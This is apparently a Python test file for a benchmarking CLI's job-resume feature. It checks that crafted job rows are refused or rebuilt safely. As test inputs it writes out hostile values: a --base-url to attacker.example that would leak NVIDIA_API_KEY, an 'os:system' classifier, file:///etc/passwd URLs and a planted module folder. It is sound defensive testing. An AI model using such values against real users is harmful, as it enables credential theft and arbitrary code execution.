"""Resume never runs a command stored in the jobs table (issue 23, defect 3): a project folder is data. A crafted
row shown as an interrupted job used to make Resume send the user's NVIDIA key to `--base-url http://attacker`,
run any command, import a module (`voices --classifier module:callable`) or run in a planted folder. Resuming now
rebuilds the command from re-validated values of a known job kind, for the project open here, and says which
host gets which key; a key for a host this machine has not used needs a yes."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from spokenbench.core.cli.resume import ApprovedHosts, ResumeRefused, plan_resume, resume_process_argv
from spokenbench.core.foundation.processes import THIS_HOST
from spokenbench.core.jobs.registry import get_job, list_jobs
from spokenbench.core.store import database

SPOKENBENCH = str(Path(sys.executable).with_name("spokenbench"))
ATTACKER = "http://attacker.example/v1"


def crafted_job(project, kind, argv, *, cwd=None, argv_json=None, status="running", label="Interrupted job") -> int:
    """A jobs row as a sender of the project could write it: 'running' by a process that is gone."""
    now = database.utc_now()
    with database.transaction(project.conn) as conn:
        return conn.execute(
            "INSERT INTO jobs(kind, label, project, pid, host, argv_json, cwd, started_at, heartbeat_at, status) "
            "VALUES (?, ?, '/elsewhere', 999999999, ?, ?, ?, ?, ?, ?)",
            (kind, label, THIS_HOST, argv_json or json.dumps(argv), cwd, now, now, status),
        ).lastrowid


def plan_of(project, job_id):
    return plan_resume(get_job(project.conn, job_id), project.path)


def test_a_rewrite_row_pointing_at_another_host_is_shown_as_sending_the_nvidia_key_there(project):
    job_id = crafted_job(project, "rewrite", ["rewrite", "/elsewhere", "--base-url", ATTACKER, "--model", "m"])
    plan = plan_of(project, job_id)
    assert plan.argv == ["rewrite", str(project.path.resolve()), f"--base-url={ATTACKER}", "--model=m"]
    [endpoint] = plan.endpoints
    assert (endpoint.host, endpoint.key) == ("attacker.example", "NVIDIA_API_KEY")
    assert plan.keys_to_new_hosts(ApprovedHosts()) == [endpoint], "a key for a new host needs a yes"
    assert "attacker.example" in plan.describe() and "NVIDIA_API_KEY" in plan.describe()


def test_the_bundled_hosts_and_approved_ones_need_no_yes(project, tmp_path):
    job_id = crafted_job(project, "rewrite", ["rewrite", "P", "--model", "m"])  # the default NVIDIA endpoint
    assert plan_of(project, job_id).keys_to_new_hosts(ApprovedHosts()) == []
    approved = ApprovedHosts(tmp_path / "machine" / "approved_hosts.json")
    approved.approve(["Attacker.example"])
    assert approved.knows("attacker.example") and not list(project.path.glob("*approved*"))
    attacker = plan_of(project, crafted_job(project, "rewrite", ["rewrite", "P", "--base-url", ATTACKER]))
    assert attacker.keys_to_new_hosts(approved) == []


@pytest.mark.parametrize(
    ("kind", "argv", "reason"),
    [
        ("voices", ["voices", "P", "--classifier", "os:system"], "only evaluate, rewrite, synthesize, assemble"),
        ("check", ["check", "P", "--repair"], "only evaluate"),
        ("evaluate", ["voices", "P", "--classifier", "os:system"], "its stored command is 'voices'"),
        ("rewrite", ["rewrite", "P", "--prompt-file", "/tmp/evil.toml"], "'--prompt-file', which a resumed job"),
        ("evaluate", ["evaluate", "P", "--model", "m:x", "--listener-profile", "p.json"], "'--listener-profile'"),
        ("synthesize", ["synthesize", "P", "--tts", "kokoro"], "loads files the project names"),
        ("synthesize", ["synthesize", "P", "--kokoro-model", "/tmp/evil"], "'--kokoro-model'"),
        ("assemble", ["assemble", "P", "/another/project"], "unexpected argument"),
        ("assemble", ["assemble", "P", "--rate", "-5"], "not valid"),
        ("assemble", ["assemble", "P", "--rate", "1", "--rate", "2"], "twice"),
        ("rewrite", ["rewrite", "P", "--base-url", "file:///etc/passwd"], "not valid"),
        ("rewrite", ["rewrite", "P", "--base-u", ATTACKER], "'--base-u'"),  # no abbreviations
        ("evaluate", ["evaluate", "P", "--model", "vllm:m", "--mode", "text"], "not valid"),  # --prompt missing
        ("transcribe", ["transcribe", "P", "--asr", "local:/tmp/evil-model"], "loads a model folder"),
        ("transcribe", ["transcribe", "P", "--asr", "openai", "--clips-out", "/tmp/x.csv"], "'--clips-out'"),
        ("transcribe", ["transcribe", "P", "--languages", "en", "--languages", "ko"], "twice"),
        ("transcribe", ["transcribe", "P", "--asr", "compatible:m@file:///etc/passwd"], "an http(s) URL"),
    ],
)
def test_a_crafted_row_is_refused_naming_why(project, kind, argv, reason):
    job_id = crafted_job(project, kind, argv)
    with pytest.raises(ResumeRefused) as refused:
        plan_of(project, job_id)
    assert reason in str(refused.value)


@pytest.mark.parametrize(
    "argv_json", ["[" * 100_000, '"evaluate P"', "[1, 2]", '{"a": 1}', "[" + '"x",' * 60_000 + '"x"]', "not json"]
)
def test_a_malformed_stored_command_lists_and_is_refused(project, argv_json):
    job_id = crafted_job(project, "evaluate", None, argv_json=argv_json)
    [job] = list_jobs(project.conn)
    assert job.argv is None and job.status == "interrupted"
    with pytest.raises(ResumeRefused, match="not started by a `spokenbench` command"):
        plan_of(project, job_id)


def test_a_transcription_resumes_with_each_asr_system_and_says_which_host_gets_which_key(project):
    argv = ["transcribe", "/elsewhere", "--asr", "openai:whisper-1", "--asr", f"compatible:w@{ATTACKER}"]
    plan = plan_of(project, crafted_job(project, "transcribe", [*argv, "--languages", "en", "--include-tokens"]))
    assert plan.argv == [
        "transcribe",
        str(project.path.resolve()),
        "--asr=openai:whisper-1",
        f"--asr=compatible:w@{ATTACKER}",
        "--languages=en",
        "--include-tokens",
    ]
    assert [(e.host, e.key) for e in plan.endpoints] == [
        ("api.openai.com", "OPENAI_API_KEY"),
        ("attacker.example", None),  # a compatible server is sent no key
    ]
    assert plan.keys_to_new_hosts(ApprovedHosts()) == []


def test_a_value_that_looks_like_an_option_stays_a_value(project):
    job_id = crafted_job(project, "rewrite", ["rewrite", "P", "--model", f"--base-url={ATTACKER}"])
    plan = plan_of(project, job_id)
    assert f"--model=--base-url={ATTACKER}" in plan.argv
    assert [e.host for e in plan.endpoints] == ["integrate.api.nvidia.com"]


@pytest.mark.slow  # starts the CLI
def test_the_stored_folder_and_cwd_are_never_used(project, tmp_path):
    planted = tmp_path / "planted"
    (planted / "spokenbench").mkdir(parents=True)
    (planted / "spokenbench" / "__init__.py").write_text("raise SystemExit('shadowed')\n")
    job_id = crafted_job(project, "assemble", ["assemble", str(planted)], cwd=str(planted))
    plan = plan_of(project, job_id)
    assert plan.argv == ["assemble", str(project.path.resolve())]
    command = resume_process_argv(plan)
    assert command[:4] == [sys.executable, "-P", "-m", "spokenbench.core.cli.main"]  # -P: no folder shadows modules
    done = subprocess.run([*command, "--dry-run", "--json"], cwd=planted, capture_output=True, text=True, timeout=60)
    assert "shadowed" not in done.stderr and done.returncode == 0, done.stderr


def test_an_interrupted_evaluation_rebuilds_with_resume(project):
    argv = ["evaluate", "P", "--model", "vllm:m", "--base-url", "http://127.0.0.1:9/v1", "--mode", "text"]
    job_id = crafted_job(project, "evaluate", [*argv, "--prompt", "standard", "--json", "--concurrency", "3"])
    plan = plan_of(project, job_id)
    assert plan.argv == [
        "evaluate",
        str(project.path.resolve()),
        "--model=vllm:m",
        "--base-url=http://127.0.0.1:9/v1",
        "--mode=text",
        "--prompt=standard",
        "--concurrency=3",
        "--resume",
    ]
    assert [(e.host, e.key) for e in plan.endpoints] == [("127.0.0.1", None)]  # no VLLM_API_KEY set: no key


def test_only_a_stopped_job_resumes(project):
    job_id = crafted_job(project, "assemble", ["assemble", "P"], status="finished")
    with pytest.raises(ResumeRefused, match="is finished"):
        plan_of(project, job_id)


# --------------------------------------------------------------------------------------------------
# spokenbench jobs


def test_cli_resume_without_a_yes_runs_nothing_and_says_where_the_key_would_go(project, cli, monkeypatch):
    monkeypatch.setattr(sys, "stdin", open("/dev/null"))  # not a terminal: nobody to ask
    job_id = crafted_job(project, "rewrite", ["rewrite", "P", "--base-url", ATTACKER])
    calls = []
    monkeypatch.setattr(subprocess, "call", lambda *a, **k: calls.append(a) or 0)
    result = cli("jobs", project.path, "--resume", job_id)
    assert result.code == 2 and calls == []
    assert "sends NVIDIA_API_KEY to attacker.example" in result.err and "--yes" in result.err
    assert not ApprovedHosts().knows("attacker.example")


def test_cli_resume_with_yes_runs_the_rebuilt_command_and_remembers_the_host(project, cli, monkeypatch):
    job_id = crafted_job(project, "rewrite", ["rewrite", "P", "--base-url", ATTACKER], cwd="/tmp")
    calls = []
    monkeypatch.setattr(subprocess, "call", lambda argv, **options: calls.append((argv, options)) or 0)
    result = cli("jobs", project.path, "--resume", job_id, "--yes")
    assert result.code == 0, result.err
    [(argv, options)] = calls
    assert argv[4:] == ["rewrite", str(project.path.resolve()), f"--base-url={ATTACKER}"] and "cwd" not in options
    assert ApprovedHosts().knows("attacker.example")


def test_cli_refuses_a_crafted_command_and_lists_why(project, cli, monkeypatch):
    job_id = crafted_job(project, "voices", ["voices", "P", "--classifier", "os:system"])
    monkeypatch.setattr(subprocess, "call", lambda *a, **k: pytest.fail("nothing may run"))
    result = cli("jobs", project.path, "--resume", job_id, "--yes")
    assert result.code == 2 and "only evaluate, rewrite, synthesize, assemble, transcribe jobs resume" in result.err
    listed = cli("jobs", project.path)
    assert f"job {job_id} was interrupted; it cannot be resumed from here" in listed.out
    [job] = cli("jobs", project.path, "--json").json()
    assert job["resume_argv"] is None and "voices" in job["resume_refused"]


def test_a_self_hosted_key_counts_only_when_set_and_no_key_needs_no_yes(project, monkeypatch):
    argv = ["evaluate", "P", "--model", "vllm:m", "--base-url", "http://10.1.2.3:8000/v1", "--mode", "text"]
    job_id = crafted_job(project, "evaluate", [*argv, "--prompt", "standard"])
    assert plan_of(project, job_id).keys_to_new_hosts(ApprovedHosts()) == []
    monkeypatch.setenv("VLLM_API_KEY", "local-secret")
    [endpoint] = plan_of(project, job_id).keys_to_new_hosts(ApprovedHosts())
    assert (endpoint.host, endpoint.key) == ("10.1.2.3", "VLLM_API_KEY")
    no_key = crafted_job(project, "rewrite", ["rewrite", "P", "--base-url", ATTACKER, "--key-provider", "none"])
    assert [(e.host, e.key) for e in plan_of(project, no_key).endpoints] == [("attacker.example", None)]
    assert plan_of(project, no_key).keys_to_new_hosts(ApprovedHosts()) == []
